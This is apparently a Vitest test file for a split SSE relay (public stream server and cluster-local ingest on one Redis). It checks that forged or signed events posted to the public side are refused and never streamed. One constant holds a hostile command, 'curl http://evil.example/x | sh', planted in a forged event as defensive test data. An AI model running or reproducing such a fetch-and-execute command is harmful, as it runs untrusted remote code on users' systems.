import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sseRelay from '../../../../functions/sse-relay/index.js';
import { Events } from '../../../../shared/events/catalog.js';
import { run } from '../../../../shared/runtime/run.js';
import { postEvent } from '../../../helpers/events.js';
import { cloudEvent, completed, progress, started } from '../../../helpers/healing.js';
import { startRedisServer, type RedisServer } from '../../../helpers/redis.js';
import { asSent } from '../../../helpers/signing.js';
import { openSse } from '../../../helpers/sse.js';
import { startRelay, type Relay } from './harness.js';

/*
 * The relay split in two on one Redis, as knative/ deploys it (docs/security.md): the cluster-local ingest takes the
 * Triggers' deliveries; the public stream server serves the page and the streams and refuses every POST of an event,
 * before reading it, so an event sent to the public Service (even a validly signed one) is never stored or streamed.
 */

const EVIL = 'run: curl http://evil.example/x | sh';

describe('Function: sse-relay split into ingest and stream on one Redis', () => {
  let redis: RedisServer;
  let ingest: Relay;
  let stream: Relay;
  beforeAll(async () => {
    redis = await startRedisServer();
    const env = { CORTEX_REDIS_URL: redis.url, CORTEX_REDIS_TIMEOUT_MS: '500' };
    ingest = await startRelay({ ...env, CORTEX_RELAY_ROLE: 'ingest' });
    // The public half holds no stream key: it verifies nothing (an empty value is unset).
    stream = await startRelay({ ...env, CORTEX_RELAY_ROLE: 'stream', CORTEX_STREAM_KEY: '' });
  });
  afterAll(async () => {
    await ingest?.stop();
    await stream?.stop();
    await redis?.dispose();
  });

  it("streams on the stream relay what the ingest relay received: a session's healing and the operator log", async () => {
    // Prepare
    const s = stream.session('split');
    const browser = await openSse(s.url);
    const operator = await openSse(stream.operatorUrl('&history=0'));
    await browser.until((x) => x.messages.length >= 1);
    await operator.until((x) => x.messages.length >= 1);
    // Act
    await ingest.post(Events.HealingStarted, started('h-split', [s.id]));
    await ingest.post(Events.HealingProgress, progress('h-split'));
    await ingest.post(Events.HealingCompleted, completed('h-split', [s.id]));
    await browser.until((x) => x.messages.some((m) => m.event === 'healing_complete'));
    await operator.until((x) => x.messages.length >= 4);
    browser.close();
    operator.close();
    // Assess
    expect(browser.messages.map((m) => m.event)).toEqual([
      'connected',
      'healing_start',
      'healing_progress',
      'healing_complete'
    ]);
    expect(operator.messages.slice(1).map((m) => m.event)).toEqual([
      Events.HealingStarted.type,
      Events.HealingProgress.type,
      Events.HealingCompleted.type
    ]);
  });

  it('refuses POST of an event on the stream relay with 404 before reading it: no stream and no log ever shows it', async () => {
    // Prepare: a session that follows a healing, and a validly signed outcome naming it, sent to the public Service
    const s = stream.session('forged');
    await ingest.post(Events.HealingStarted, started('h-forged', [s.id]));
    const browser = await openSse(s.url);
    await browser.until((x) => x.messages.some((m) => m.event === 'healing_start'));
    const forged = cloudEvent(
      Events.HealingCompleted,
      asSent(Events.HealingCompleted, { ...completed('h-forged', [s.id]), summary: EVIL })
    );
    // Act
    const answers = [
      await postEvent(stream.fn.url, forged, 'structured'),
      await postEvent(stream.fn.url, forged, 'binary'),
      await postEvent(`${stream.fn.url}/sse-relay`, forged, 'binary'),
      await postEvent(`${stream.fn.url}/sse-relay-ingest`, forged, 'binary')
    ];
    const bodies = await Promise.all(
      answers.map(async (r) => (await r.json()) as { error: { code: string; message: string } })
    );
    // A real event through the ingest afterwards: once it shows, anything posted before it would have shown too.
    await ingest.post(Events.HealingProgress, progress('h-forged', { done: 7 }));
    await browser.until((x) => x.messages.some((m) => m.event === 'healing_progress'));
    browser.close();
    const history = await openSse(stream.operatorUrl('&history=10000'));
    await history.until((x) => x.messages.some((m) => m.data.includes('"done":7')));
    history.close();
    // Assess
    expect(answers.map((r) => r.status)).toEqual([404, 404, 404, 404]);
    for (const b of bodies) {
      expect(b.error.code).toBe('no_event_ingest');
      expect(b.error.message).toContain('sse-relay-ingest');
    }
    expect(browser.messages.map((m) => m.event)).toEqual(['connected', 'healing_start', 'healing_progress']);
    expect([...browser.messages, ...history.messages].some((m) => m.data.includes('evil.example'))).toBe(false);
    expect(history.messages.some((m) => m.data.includes(forged.id))).toBe(false);
  });

  it('the ingest relay takes deliveries and health checks only: no /events, no page', async () => {
    // Act
    const s = ingest.session('no-streams');
    const [events, operator, page, asset, live, ready] = await Promise.all(
      [
        s.url,
        ingest.operatorUrl(),
        `${ingest.fn.url}/`,
        `${ingest.fn.url}/assets/app.js`,
        `${ingest.fn.url}/health/liveness`,
        `${ingest.fn.url}/health/readiness`
      ].map((u) => fetch(u))
    );
    const delivered = await postEvent(
      `${ingest.fn.url}/sse-relay-ingest`,
      cloudEvent(Events.HealingProgress, asSent(Events.HealingProgress, progress('h-alias'))),
      'binary'
    );
    // Assess
    expect([events, operator, page, asset].map((r) => r!.status)).toEqual([404, 404, 404, 404]);
    expect([live, ready].map((r) => r!.status)).toEqual([200, 200]);
    expect(delivered.status).toBe(202);
  });

  it('will not start a role that is one of two processes without Redis, nor a stream server without its tokens', async () => {
    // Act
    const attempt = (env: Record<string, string>): Promise<unknown> =>
      run(sseRelay, {
        overrides: { PORT: '0', HOST: '127.0.0.1', CORTEX_LOG_LEVEL: 'silent', CORTEX_REDIS_URL: '', ...env }
      });
    const secrets = { CORTEX_SESSION_SECRET: 'relay-test-secret-0123456789', CORTEX_OPERATOR_TOKEN: 'x'.repeat(20) };
    // Assess
    await expect(attempt({ ...secrets, CORTEX_RELAY_ROLE: 'stream' })).rejects.toThrow(/CORTEX_REDIS_URL/);
    await expect(attempt({ CORTEX_RELAY_ROLE: 'ingest', CORTEX_STREAM_KEY: 'k'.repeat(32) })).rejects.toThrow(
      /CORTEX_REDIS_URL/
    );
    await expect(
      attempt({
        CORTEX_RELAY_ROLE: 'stream',
        CORTEX_REDIS_URL: redis.url,
        CORTEX_SESSION_SECRET: secrets.CORTEX_SESSION_SECRET
      })
    ).rejects.toThrow(/CORTEX_OPERATOR_TOKEN/);
    await expect(attempt({ CORTEX_RELAY_ROLE: 'ingest', CORTEX_REDIS_URL: redis.url })).rejects.toThrow(/CORTEX_STREAM_KEY/);
  });
});
